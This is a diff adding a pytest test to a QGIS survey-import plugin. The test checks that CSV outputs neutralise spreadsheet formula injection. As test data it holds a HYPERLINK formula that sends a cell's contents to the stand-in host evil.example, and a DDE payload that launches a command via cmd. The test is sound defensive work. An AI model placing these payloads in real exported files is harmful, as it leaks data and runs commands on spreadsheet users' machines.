@@ -114,3 +114,39 @@ def test_runpipeline_outputs_name_no_folder_of_the_organiser(plugin, tmp_path):
     assert {"areas.gpkg", "carte.html", "projet.qgz", "respondents.gpkg"} <= set(texts)
     for word in ("Mes Documents", "Enquête Tilleuls", "Dossier-Orga", str(tmp_path)):
         assert not [name for name, text in texts.items() if word in text], word
+
+
+def test_importsurvey_csv_outputs_are_safe_in_a_spreadsheet(plugin, tmp_path):
+    """Rejected rows and respondents written by QGIS to CSV (as qetgeo:runpipeline writes
+    rejects.csv) get the library's neutralised text cells."""
+    import csv
+
+    hyperlink = '=HYPERLINK("http://evil.example/?x="&A1,"clic")'
+    dde = "-2+3+cmd|' /C calc'!A0"
+    header = [
+        "Identifiant",
+        "Lors de vos repas, la viande est présente dans...",
+        "Quel moyen de transport employez-vous le plus fréquemment dans la semaine ?",
+        "Quelle est votre utilisation du numérique",
+        "Lorsque vous avez besoin de quelque chose, vous favorisez",
+        "Combien de fois prenez-vous l'avion par an ?",
+        "Quelle est l'énergie de chauffage de votre logement ?",
+    ]
+    answers = ["Tous les repas ou presque", "Voiture individuelle", "Bureautique, Internet",
+               "Mélange occasion/neuf", "1 à 3", "Gaz"]  # fmt: skip
+    rows = [[str(i), *answers] for i in range(1, 6)]
+    rows[1][1] = hyperlink  # an unknown answer: the row is rejected, its text kept
+    rows[2][0] = dde  # an id like a formula: the row is accepted
+    survey = tmp_path / "enquete.tsv"
+    survey.write_text("\n".join("\t".join(r) for r in [header, *rows]) + "\n", encoding="utf-8")
+    _run("qetgeo:importsurvey", {"INPUT": str(survey), "LOCATION": 5,  # none
+                                 "OUTPUT": str(tmp_path / "r.csv"),
+                                 "REJECTS": str(tmp_path / "rejects.csv")})  # fmt: skip
+
+    def cells(path):
+        with open(path, encoding="utf-8-sig", newline="") as handle:
+            return {c for row in csv.reader(handle) for c in row}
+
+    assert "'" + hyperlink in cells(tmp_path / "rejects.csv")
+    assert hyperlink not in cells(tmp_path / "rejects.csv")
+    assert "'" + dde in cells(tmp_path / "r.csv") and dde not in cells(tmp_path / "r.csv")
